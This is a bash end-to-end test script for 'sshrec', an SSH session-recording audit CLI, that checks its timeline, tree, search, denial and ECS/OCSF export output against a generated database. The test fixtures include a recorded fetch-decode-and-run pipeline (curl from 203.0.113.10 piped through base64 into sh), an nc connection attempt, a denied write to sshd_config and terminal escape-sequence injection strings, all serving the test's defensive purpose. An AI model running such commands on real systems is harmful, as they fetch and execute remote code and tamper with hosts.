#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# sshrec (the auditor CLI) on a generated database (tests/bench/gen_db, fixed
# seed, so outputs are deterministic): every subcommand, the hostile strings
# (escape sequences, <script>, quotes, newlines), errors, ECS/OCSF required
# fields, a read-only copy, a concurrent writer in WAL mode, a newer schema,
# records of a newer format.
# gen_db writes through sshrecd's own sinks, so its JSON-lines file is what
# the records must come back as.
# Replay under tmux and the HTML report in headless Chromium are in
# cli_replay.sh and cli_report.sh. Needs no root.
. "$SR_TOP_SRCDIR/tests/e2e/lib.sh"
SR_T=$(mktemp -d /tmp/sshrec-e2e-cli.XXXXXX)
chmod 755 "$SR_T"
trap sr_cleanup EXIT
GEN=$SR_TOP_BUILDDIR/tests/bench/gen_db
[ -x "$SR_SSHREC" ] || sr_die "sshrec not built at $SR_SSHREC"
[ -x "$GEN" ] || sr_die "gen_db not built at $GEN"
DB=$SR_T/g.db
"$GEN" -o "$DB" -j "$SR_T/g.jsonl" -n 3 -e 120 --hostile || sr_die "gen_db failed"
cp "$DB" "$DB.before"
export SSHREC_DB=$DB
R() { "$SR_SSHREC" --color never "$@"; }
quiet() { "$@" >/dev/null; }
no_ctl() { ! LC_ALL=C grep -q $'[\x01-\x08\x0b-\x1f\x7f]' "$1"; }
sid_of() { sqlite3 -readonly "$DB" "SELECT sid FROM sessions WHERE login='$1'"; }
A=$(sid_of alice) # the hostile session
B=$(sid_of bob)
C=$(sid_of carol)

# ---- sessions ---------------------------------------------------------------
R sessions >"$SR_T/sessions.txt"
sr_check_eq "sessions lists 3 sessions and a header" 4 "$(wc -l <"$SR_T/sessions.txt")"
sr_check "sessions shows sid, login, address, tty, key, counts" \
	grep -Eq "^$B +bob +192\.0\.2\.11:50001 +pts/[0-9]+ +SHA256:bob.* +2026-01-05 08:01:00 +42\.6 s +15 +4 +3 +0 +0$" \
	"$SR_T/sessions.txt"
sr_check_eq "sessions --user bob" "$B" "$(R sessions --user bob --json | jq -r '.[].sid')"
sr_check_eq "sessions --json has counts and end" "15 4 3 2026-01-05T08:01:42.681457Z" \
	"$(R sessions --user bob --json | jq -r '.[0] | "\(.counts.command) \(.counts.disk) \(.counts.network) \(.end)"')"
sr_check_eq "sessions --active: none (all ended)" 0 "$(R sessions --active --json | jq length)"
sr_check_eq "sessions --since/--until select by time" "$B" \
	"$(R sessions --since 2026-01-05T08:01:30Z --until 2026-01-05T08:01:59Z --json | jq -r '.[].sid')"
sr_check_eq "sessions --host matches the server" 3 "$(R sessions --host bastion-1 --json | jq length)"

# ---- errors: one line, non-zero ---------------------------------------------
err() { # err CODE PATTERN -- command
	local code=$1 pat=$2 rc=0
	shift 2
	"$@" >/dev/null 2>"$SR_T/err" || rc=$?
	[ "$rc" = "$code" ] && [ "$(wc -l <"$SR_T/err")" = 1 ] && grep -Eq "^sshrec: $pat" "$SR_T/err" ||
		{ echo "rc=$rc stderr: $(cat "$SR_T/err")"; return 1; }
}
sr_check "bad time: usage error" err 2 "--since: bad time 'last tuesday'" R sessions --since 'last tuesday'
sr_check "relative times accepted" quiet R sessions --since -2h --until now
sr_check "yesterday accepted" quiet R sessions --since yesterday
sr_check "missing database" err 1 "cannot open database $SR_T/nope.db: No such file" \
	R --db "$SR_T/nope.db" sessions
sr_check "unknown sid" err 1 "unknown session '0000000000'" R timeline 0000000000
sr_check "short sid prefix refused" err 1 "'019b8d2' is not a session id" R tree 019b8d2
sr_check "unknown type" err 2 "--type: unknown type 'bogus'" R timeline "$A" --type bogus
sr_check "bad --dst" err 2 "--dst: expected" R search --dst '[::1'
sr_check "unknown command" err 2 "unknown command 'frobnicate'" R frobnicate
cp "$DB" "$SR_T/newer.db"
sqlite3 "$SR_T/newer.db" 'PRAGMA user_version = 99'
MAXV=$(sed -n 's/^#define SR_CLI_SCHEMA_MAX \([0-9]*\).*/\1/p' "$SR_TOP_SRCDIR/cli/cli.h")
sr_check "newer schema refused" err 1 \
	"database schema version 99 is newer than this sshrec supports \($MAXV\)$" R --db "$SR_T/newer.db" sessions
cp "$DB" "$SR_T/newfmt.db" # a newer sshrecd's records: read, with a warning
sqlite3 "$SR_T/newfmt.db" "INSERT OR REPLACE INTO meta (key, value) VALUES ('record_format', '99')"
R --db "$SR_T/newfmt.db" sessions --json >"$SR_T/newfmt.out" 2>"$SR_T/newfmt.err"
sr_check_eq "records of a newer format: still read" 3 "$(jq length <"$SR_T/newfmt.out")"
sr_check "records of a newer format: a warning says so" grep -q \
	"warning: $SR_T/newfmt.db holds records of format 99, newer than this sshrec reads" "$SR_T/newfmt.err"
sr_check_eq "records of this format: no warning" "" "$(R sessions 2>&1 >/dev/null)"
: >"$SR_T/empty.db"
sr_check "not an sshrec database" err 1 "$SR_T/empty.db is not an sshrec database" \
	R --db "$SR_T/empty.db" sessions

# ---- timeline -----------------------------------------------------------------
R timeline "${A:0:8}" >"$SR_T/tl.txt"
sr_check "timeline by 8-char prefix: every record" \
	test "$(grep -c '^[0-9][0-9]:' "$SR_T/tl.txt")" = "$(sqlite3 "$DB" "SELECT count(*) FROM events e JOIN sessions s ON s.id=e.session_id WHERE s.sid='$A'")"
sr_check "timeline: no control characters reach the terminal" no_ctl "$SR_T/tl.txt"
sr_check "timeline: the OSC title sequence is shown escaped" grep -qF "exec    printf '\\e]0;pwned\\x07'" "$SR_T/tl.txt"
sr_check "timeline: escape sequences in a path are escaped" grep -qF '/home/app/\e[2J\e[31mred O_WRONLY|O_CREAT = fd 4' "$SR_T/tl.txt"
sr_check "timeline: newline in argv escaped" grep -qF "'it'\\''s\\nnew\\xff'" "$SR_T/tl.txt"
sr_check_eq "timeline --type command,network" "connect exec" \
	"$(R timeline "$A" --type command,network | awk 'NR>2 {print $4}' | sort -u | tr '\n' ' ' | sed 's/ $//')"
sr_check_eq "timeline --grep" 2 "$(R timeline "$B" --grep 'x\.sh' --type command | grep -c exec)"
R timeline "$A" --json >"$SR_T/tl.json"
sr_check_eq "timeline --json is the records as the JSON-lines sink wrote them" \
	"$(jq -c "select(.sid == \"$A\")" "$SR_T/g.jsonl" | md5sum)" \
	"$(jq -c '.[]' "$SR_T/tl.json" | md5sum)"

# ---- tree -------------------------------------------------------------------
R tree "$C" >"$SR_T/tree-c.txt"
sr_check "tree: the pipeline reads plainly (curl, base64 -d, sh with its children)" \
	grep -Pzq '\|- curl -s http://203\.0\.113\.10/x\.sh  \[pid \d+, exit 0, [^]]+\]\n   \|- base64 -d  \[pid \d+, exit 0, [^]]+\]\n   \|- sh  \[pid \d+, exit 0, [^]]+\]\n   \|  \|- id  \[pid \d+, exit 0, [^]]+\]\n   \|  `- chmod \+x /tmp/\.x' \
	"$SR_T/tree-c.txt"
R tree "$B" --files --net >"$SR_T/tree-b.txt"
sr_check "tree: failed exec shows the errno name" grep -q "nosuchcmd --flag  \[pid [0-9]*, exec failed: ENOENT" "$SR_T/tree-b.txt"
sr_check "tree: a killed job shows the signal name" grep -q "sleep 600  \[pid [0-9]*, killed by SIGKILL" "$SR_T/tree-b.txt"
sr_check "tree --net nests connects under their process" \
	grep -Pzq 'curl -s http://203\.0\.113\.10/x\.sh  \[[^]]+\]\n   \|  `- connect 203\.0\.113\.10:80 from 10\.0\.0\.4:\d+ established' "$SR_T/tree-b.txt"
sr_check "tree --files nests opens" grep -q '^   |     `- open /tmp/.x O_WRONLY|O_CREAT$' "$SR_T/tree-b.txt"
sr_check "tree: ASCII when not a UTF-8 tty" no_ctl "$SR_T/tree-b.txt"
# files and connections sit among the children in time order (on a copy: an
# open by sh between its two children, one by the login shell after its last)
cp "$DB" "$SR_T/late.db"
late_open() { # PROCESS-ID TIME_US PATH FLAGS (a session.disk row, as schema/sshrec.sql says)
	sqlite3 "$SR_T/late.db" "UPDATE sessions SET next_ei = next_ei + 1 WHERE login = 'carol';
		INSERT OR IGNORE INTO paths (path, last_us) VALUES ('$3', $2);
		INSERT INTO events (session_id, ei, time_us, kind, fmt, uid, pid, ppid, program, process_id, path, rc, n1, n2, n3)
		SELECT s.id, s.next_ei - 1, $2, 3, 1, randomblob(16), p.pid, p.ppid, p.program, p.id,
		(SELECT id FROM paths WHERE path = '$3'), 5, $4, 420, 0
		FROM sessions s JOIN processes p ON p.session_id = s.id WHERE s.login = 'carol' AND p.id = $1"
}
pid_of() { sqlite3 "$SR_T/late.db" "SELECT p.$2 FROM processes p JOIN sessions s ON s.id = p.session_id JOIN programs g ON g.id = p.program WHERE s.login = 'carol' AND g.name = '$1'"; }
late_open "$(pid_of sh id)" $(($(pid_of id start_us) + 1000)) /tmp/out.log 577        # O_WRONLY|O_CREAT|O_TRUNC
late_open "$(pid_of bash id)" $(($(pid_of sleep start_us) + 1000)) /home/app/.bash_history 1025 # O_WRONLY|O_APPEND
R --db "$SR_T/late.db" tree "$C" --files >"$SR_T/tree-late.txt"
sr_check "tree --files: an open between two children is shown between them" \
	grep -Pzq '\|- sh  \[[^]]+\]\n   \|  \|- id  \[[^]]+\]\n   \|  \|- open /tmp/out\.log O_WRONLY\|O_CREAT\|O_TRUNC\n   \|  `- chmod \+x /tmp/\.x  \[[^]]+\]\n   \|     `- open /tmp/\.x' \
	"$SR_T/tree-late.txt"
sr_check "tree --files: an open after the last child comes last" \
	grep -Pzq '   \|- sleep 600  \[[^]]+\]\n   `- open /home/app/\.bash_history O_WRONLY\|O_APPEND\n$' \
	"$SR_T/tree-late.txt"
R tree "$A" --files >"$SR_T/tree-a.txt"
sr_check "tree (hostile): no control characters" no_ctl "$SR_T/tree-a.txt"
sr_check "tree (hostile): argv escaped and quoted" grep -qF "printf '\\e]0;pwned\\x07'  [pid" "$SR_T/tree-a.txt"
sr_check_eq "tree --json: processes in preorder with parents" "$(sqlite3 "$DB" "SELECT count(*) FROM processes p JOIN sessions s ON s.id=p.session_id WHERE s.sid='$B'")" \
	"$(R tree "$B" --json | jq '.processes | length')"
sr_check_eq "tree --json: outcome words" "exec failed: ENOENT" \
	"$(R tree "$B" --json | jq -r '[.processes[] | select(.path == "/usr/bin/nosuchcmd")][0].outcome')"
# tree reads programs and paths once by id, through a small direct-mapped
# cache (cli/proctree.c), and must give what the joins give: on a copy whose
# processes' cwd and exe take turns among paths whose ids share a slot, one
# process with a cwd row missing (null, as a LEFT JOIN) and one with its
# program row missing (left out, as an inner join)
cp "$DB" "$SR_T/dict.db"
sqlite3 "$SR_T/dict.db" "WITH RECURSIVE k(v) AS (SELECT 0 UNION ALL SELECT v + 1 FROM k WHERE v < 5)
	INSERT INTO paths (id, path, last_us) SELECT 1000000 + 256 * v, '/slot/' || v, 0 FROM k;
	UPDATE processes SET cwd = 1000000 + 256 * (id % 6), exe = 1000000 + 256 * ((id + 1) % 5)
	WHERE session_id = (SELECT id FROM sessions WHERE sid = '$B');
	UPDATE processes SET cwd = 999999 WHERE id = (SELECT min(p.id) FROM processes p
	JOIN sessions s ON s.id = p.session_id WHERE s.sid = '$B');
	UPDATE processes SET program = 999998 WHERE id = (SELECT max(p.id) FROM processes p
	JOIN sessions s ON s.id = p.session_id WHERE s.sid = '$B')"
sr_check_eq "tree --json: programs and paths by id are what the joins give" \
	"$(sqlite3 "$SR_T/dict.db" "SELECT p.id || ' ' || d.path || ' ' || coalesce(x.path, 'null') || ' ' ||
		coalesce(c.path, 'null') FROM processes p JOIN sessions s ON s.id = p.session_id
		JOIN programs g ON g.id = p.program JOIN paths d ON d.id = p.path
		JOIN argvs a ON a.id = p.argv LEFT JOIN paths c ON c.id = p.cwd
		LEFT JOIN paths x ON x.id = p.exe WHERE s.sid = '$B' ORDER BY p.id")" \
	"$(R --db "$SR_T/dict.db" tree "$B" --json |
		jq -r '.processes | sort_by(.id) | .[] | "\(.id) \(.path) \(.exe) \(.cwd)"')"

# ---- search -----------------------------------------------------------------
# (the hostile session's fifth curl is the one whose connect the policy audited)
sr_check_eq "search --command curl: every run" 5 "$(R search --command curl --json | jq length)"
sr_check_eq "search --command with a glob" "$(R search --command 'cur*' --json | jq length)" 5
sr_check_eq "search --path GLOB" 4 "$(R search --path '/tmp/*' --json | jq length)"
sr_check_eq "search --dst ADDR:PORT" 4 "$(R search --dst 203.0.113.10:80 --json | jq length)"
sr_check_eq "search --dst with --since" 1 \
	"$(R search --dst 203.0.113.10 --since 2026-01-05T08:02:00Z --json | jq length)"
sr_check "search (hostile path) table escapes" sh -c "'$SR_SSHREC' --color never search --path '*red' | grep -qF 'open /home/app/\\e[2J\\e[31mred'"

# ---- the session policy's denials (the hostile session has three) ------------
sr_check "sessions: the DENIED column counts them" \
	grep -Eq "^$A +alice .* +13 +5 +1 +3 +0$" "$SR_T/sessions.txt"
sr_check_eq "sessions --json: counts.denied" 3 "$(R sessions --user alice --json | jq '.[0].counts.denied')"
R timeline "$A" --type denied >"$SR_T/tl-denied.txt"
sr_check_eq "timeline --type denied: the three, labelled DENIED" 3 "$(grep -c '  DENIED  ' "$SR_T/tl-denied.txt")"
sr_check "timeline: a killed exec reads as such, with its rule" grep -qF \
	"DENIED  exec /usr/bin/nc denied by deny_exec.group.contractors = /usr/bin/nc: killed before the new program ran (signal)" \
	"$SR_T/tl-denied.txt"
sr_check "timeline: an audited connect is not called denied" grep -qF \
	"connect 10.0.0.9:80 matches deny_connect = 10.0.0.0/8: allowed (audit mode)" "$SR_T/tl-denied.txt"
R tree "$A" >"$SR_T/tree-denied.txt"
sr_check "tree: the denied process is marked, its denial nested under it (no --files needed)" \
	grep -Pzq '\|- nc 10\.0\.0\.9 22  \[pid \d+, killed by SIGKILL, [^]]+\]  DENIED\n   \|  `- !! exec /usr/bin/nc denied by ' \
	"$SR_T/tree-denied.txt"
sr_check "tree: a refused write" grep -qF '!! write /etc/ssh/sshd_config denied by deny_write = /etc/ssh/*: refused with EPERM, it did not happen (lsm)' "$SR_T/tree-denied.txt"
sr_check_eq "tree: three processes marked" 3 "$(grep -c '\]  DENIED$' "$SR_T/tree-denied.txt")"
sr_check_eq "tree --json: denials per process" "/usr/bin/tee 1" \
	"$(R tree "$A" --json | jq -r '.processes[] | select(.path == "/usr/bin/tee") | "\(.path) \(.denied | length)"')"
sr_check_eq "tree of a session without denials: nothing marked" 0 "$(R tree "$B" | grep -c DENIED)"
sr_check_eq "search --denied: every denial, in time order" "nc curl tee" \
	"$(R search --denied --json | jq -r '[.[].program] | join(" ")')"
sr_check_eq "search --denied --path GLOB" "write 1" "$(R search --denied --path '/etc/ssh/*' --json | jq -r '.[] | "\(.kind) \(.action)"')"
sr_check_eq "search --denied --dst ADDR:PORT" "connect 0" "$(R search --denied --dst 10.0.0.9:80 --json | jq -r '.[] | "\(.kind) \(.action)"')"
sr_check_eq "search --denied --command" "exec 1" "$(R search --denied --command 'n*' --json | jq -r '.[] | "\(.kind) \(.action)"')"
sr_check_eq "search --denied --since after them: none" 0 "$(R search --denied --since 2026-01-05T08:01:00Z --json | jq length)"
sr_check "search --denied table: WHAT reads as the timeline does" sh -c \
	"'$SR_SSHREC' --color never search --denied | grep -Eq 'alice  [0-9]+  tee      write /etc/ssh/sshd_config denied by'"
sr_check_eq "search --denied on a database without denials: nothing, no error" 0 \
	"$(cp "$DB" "$SR_T/none.db" && sqlite3 "$SR_T/none.db" "DELETE FROM events WHERE kind = 8" &&
		R --db "$SR_T/none.db" search --denied --json | jq length)"
sr_check_eq "export ecs: a denial is an alert, failure, type denied, with its rule" \
	"alert failure denied deny_exec.group.contractors = /usr/bin/nc /usr/bin/nc" \
	"$(R export --sid "$A" --format ecs | jq -r 'select(.event.action == "session.denied" and .sshrec.kind == "exec") | "\(.event.kind) \(.event.outcome) \(.event.type[0]) \(.rule.name) \(.file.path)"')"
sr_check_eq "export ecs: an audited one is allowed, success" "allowed success" \
	"$(R export --sid "$A" --format ecs | jq -r 'select(.sshrec.policy_mode == "audit") | "\(.event.type[0]) \(.event.outcome)"')"
sr_check_eq "export ocsf: Blocked (2) when enforced, Logged (17) when audited" \
	"1007 2 Blocked 2|4001 17 Logged 1|1001 2 Blocked 2" \
	"$(R export --sid "$A" --format ocsf | jq -r 'select(.metadata.log_name == "session.denied") | "\(.class_uid) \(.disposition_id) \(.disposition) \(.action_id)"' | paste -sd'|')"

# ---- a database older sshrecd wrote: read as it is, shown and exported the same ----
# Format 1 (0.1.0) commands, connects and ends, format 2 denials (their
# string action and mode): nothing is migrated, and every view reads them.
# Schema 7 keeps each record's format with its row (events.fmt) and the
# writer writes it in that format, so the rows say it.
cp "$DB" "$SR_T/old.db"
sqlite3 "$SR_T/old.db" "UPDATE events SET fmt = CASE kind WHEN 8 THEN 2 ELSE 1 END
	WHERE kind IN (1, 2, 4, 8)" || sr_die "could not write the old formats" # end, command, network, denied
views() { # DB: every text view of every session, the searches, both exports
	local s
	R --db "$1" sessions
	for s in $A $B $C; do
		R --db "$1" timeline "$s"
		R --db "$1" tree "$s" --files --net
		R --db "$1" tree "$s" --json
	done
	R --db "$1" search --denied
	R --db "$1" search --command 'cur*'
	R --db "$1" export --format ecs
	R --db "$1" export --format ocsf
}
sr_check_eq "old formats: the database holds them (format 2 denials, format 1 argv)" "3 0" \
	"$(R --db "$SR_T/old.db" export | jq -s '[.[] | select(.event == "session.denied" and (.action | type) == "string")] | length') $(
		R --db "$SR_T/old.db" export | jq -s '[.[] | select(has("argv0"))] | length')"
sr_check_eq "old formats: timeline, tree, search and the ECS/OCSF exports read as format 3's" \
	"$(views "$DB" | md5sum)" "$(views "$SR_T/old.db" | md5sum)"
R --db "$DB" report "$A" -o "$SR_T/new.html"
R --db "$SR_T/old.db" report "$A" -o "$SR_T/old.html"
sr_check "old formats: the same HTML report" cmp "$SR_T/new.html" "$SR_T/old.html"
sr_check "old formats: export jsonl gives the records as stored (nothing rewritten)" \
	grep -q '"action":"exec"' <(R --db "$SR_T/old.db" export)

# ---- export -------------------------------------------------------------------
R export -o "$SR_T/all.jsonl"
sr_check "export jsonl: every record as the JSON-lines sink wrote it, byte for byte" \
	cmp "$SR_T/g.jsonl" "$SR_T/all.jsonl"
R export --format ecs -o "$SR_T/all.ecs"
R export --format ocsf -o "$SR_T/all.ocsf" 2>"$SR_T/ocsf.err"
sr_check_eq "export ocsf: every record has a class (nothing said on stderr)" 0 "$(wc -c <"$SR_T/ocsf.err")"
# session.data_loss has no OCSF 1.1 class: left out, and said on stderr (on a copy)
cp "$DB" "$SR_T/loss.db"
sqlite3 "$SR_T/loss.db" "INSERT INTO events (session_id, ei, time_us, kind, fmt, uid, pid, ppid, n1, n2, n3) SELECT id, next_ei, start_us + 1000, 6, 1, randomblob(16), 0, 0, 0, 3, 0 FROM sessions WHERE login = 'bob'"
sr_check_eq "export ocsf: data_loss left out, said on stderr" \
	"sshrec: export: 1 session.data_loss records have no OCSF 1.1.0 class and were left out (use jsonl or ecs for them)" \
	"$(R --db "$SR_T/loss.db" export --format ocsf 2>&1 >/dev/null)"
sr_check_eq "export ocsf: the other records all exported" "$(wc -l <"$SR_T/all.ocsf")" \
	"$(R --db "$SR_T/loss.db" export --format ocsf 2>/dev/null | wc -l)"
cat >"$SR_T/check.py" <<'PY'
import json, sys
# Required fields per kind, kept here on purpose (issue 6): ECS by event
# category, OCSF 1.1 by class.
ECS_ALL = ["@timestamp", "ecs.version", "event.kind", "event.category", "event.type",
           "event.action", "event.code", "host.hostname", "host.id", "user.name",
           "process.entry_leader.entity_id", "process.entry_leader.entry_meta.type",
           "process.entry_leader.user.name", "process.entry_leader.entry_meta.source.ip"]
ECS_CAT = {
  "process": ["process.pid", "process.parent.pid", "process.name", "process.executable",
              "process.args", "process.args_count", "process.working_directory"],
  "file": ["file.path", "file.name", "process.pid", "process.executable"],
  "network": ["source.ip", "source.port", "destination.ip", "destination.port",
              "network.transport", "process.pid"],
  "session": [],
}
OCSF_ALL = ["class_uid", "category_uid", "activity_id", "type_uid", "severity_id", "time",
            "metadata.version", "metadata.product.name", "metadata.product.vendor_name"]
OCSF_CLASS = {
  1007: ["actor", "process", "process.pid", "process.cmd_line"],
  1001: ["actor", "file", "file.name", "file.path", "file.type_id"],
  4001: ["src_endpoint.ip", "dst_endpoint.ip", "dst_endpoint.port"],
  3002: ["user", "user.name", "auth_protocol_id", "logon_type_id", "src_endpoint.ip",
         "dst_endpoint.port", "session.uid"],
}
# session.denied: the class of what was tried, with the security_control profile
# (no source address or command line for something that never ran)
OCSF_DENIED = {
  1007: ["actor", "process", "process.pid", "process.file.path"],
  1001: ["actor", "file", "file.name", "file.path", "file.type_id"],
  4001: ["src_endpoint", "dst_endpoint.ip", "dst_endpoint.port"],
}
OCSF_CONTROL = ["action_id", "disposition_id", "metadata.profiles"]
CAT = {1007: 1, 1001: 1, 4001: 4, 3002: 3}
def get(d, path):
    if path in d:
        return d[path]
    for k in path.split("."):
        if not isinstance(d, dict) or k not in d:
            raise KeyError(path)
        d = d[k]
    return d
kind, fname = sys.argv[1], sys.argv[2]
n = 0
with open(fname, encoding="utf-8") as f:
    for line in f:
        d = json.loads(line)
        n += 1
        if kind == "ecs":
            for p in ECS_ALL + ECS_CAT[d["event"]["category"][0]] if d["event"]["category"][0] in ECS_CAT else ECS_ALL:
                get(d, p)
            if d["event"]["action"] == "session.process_exit":
                get(d, "process.exit_code")
        else:
            if d["metadata"]["log_name"] == "session.denied":
                need = OCSF_DENIED[d["class_uid"]] + OCSF_CONTROL
                assert "security_control" in d["metadata"]["profiles"], line
            else:
                need = OCSF_CLASS[d["class_uid"]]
            for p in OCSF_ALL + need:
                get(d, p)
            assert d["type_uid"] == d["class_uid"] * 100 + d["activity_id"], line
            assert d["category_uid"] == CAT[d["class_uid"]], line
            assert isinstance(d["time"], int) and d["time"] > 1.7e12, line
print(n)
PY
sr_check_eq "export ecs: one document per record, required fields present" \
	"$(wc -l <"$SR_T/all.jsonl")" "$("$SR_PY" "$SR_T/check.py" ecs "$SR_T/all.ecs" 2>&1)"
sr_check_eq "export ocsf: classes 1007/1001/4001/3002 with required fields" \
	"$(sqlite3 "$DB" "SELECT count(*) FROM events e JOIN kinds k ON k.id = e.kind WHERE k.event != 'session.data_loss'")" \
	"$("$SR_PY" "$SR_T/check.py" ocsf "$SR_T/all.ocsf" 2>&1)"
sr_check_eq "export --sid --format ecs" "$(R timeline "$B" --json | jq length)" \
	"$(R export --sid "$B" --format ecs | wc -l)"
sr_check "export is valid UTF-8" iconv -f UTF-8 -t UTF-8 "$SR_T/all.ecs" -o /dev/null

# ---- read-only: a copy in a read-only place, and next to a writer -------------
mkdir "$SR_T/ro"
cp "$DB" "$SR_T/ro/copy.db"
chmod 0444 "$SR_T/ro/copy.db"
chmod 0555 "$SR_T/ro"
if [ "$(id -u)" = 0 ]; then RO=(setpriv --reuid=65534 --regid=65534 --clear-groups); else RO=(); fi
sr_check_eq "works on a read-only copy (no -wal/-shm can be made)" 3 \
	"$("${RO[@]}" "$SR_SSHREC" --db "$SR_T/ro/copy.db" sessions --json | jq length)"
"$SR_PY" - "$DB" "$SR_T/writer.ready" <<'PY' &
import sqlite3, sys, time
c = sqlite3.connect(sys.argv[1], isolation_level=None)
c.execute("PRAGMA journal_mode=WAL")
c.execute("BEGIN IMMEDIATE")
c.execute("INSERT INTO meta (key, value) VALUES ('writer', 'busy')")
open(sys.argv[2], "w").close()
time.sleep(3)
c.execute("COMMIT")
PY
SR_PIDS+=($!)
for _ in $(seq 50); do [ -e "$SR_T/writer.ready" ] && break; sleep 0.1; done
sr_check_eq "reads while a writer holds a WAL write transaction" 3 "$(R sessions --json | jq length)"
sr_check_eq "the CLI never writes: the database is unchanged" "$(md5sum <"$SR_T/ro/copy.db")" "$(md5sum <"$DB.before")"
sr_check "no -wal/-shm files left next to the read-only copy" test ! -e "$SR_T/ro/copy.db-wal"

sr_finish
